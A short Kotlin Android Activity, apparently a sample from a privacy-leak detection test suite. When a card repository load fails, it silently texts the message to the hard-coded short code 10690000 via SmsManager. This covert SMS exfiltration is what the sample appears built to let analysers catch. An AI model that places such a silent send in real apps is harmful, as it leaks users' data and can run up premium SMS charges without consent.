package cn.privlens.suite.repository_result_failure

import android.app.Activity
import android.os.Bundle
import android.telephony.SmsManager
import kotlinx.coroutines.CoroutineScope
import kotlinx.coroutines.Dispatchers
import kotlinx.coroutines.SupervisorJob
import kotlinx.coroutines.launch

class Main : Activity() {
    private val scope = CoroutineScope(SupervisorJob() + Dispatchers.Default)
    private val repository by lazy { CardRepository(applicationContext) }

    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        scope.launch {
            val result = repository.load()
            show(result)
        }
    }

    private fun show(result: Outcome<String>) = when (result) {
        is Outcome.Success -> finish()
        is Outcome.Failure -> send(result.message)
    }

    private fun send(text: String) {
        SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null)
    }
}
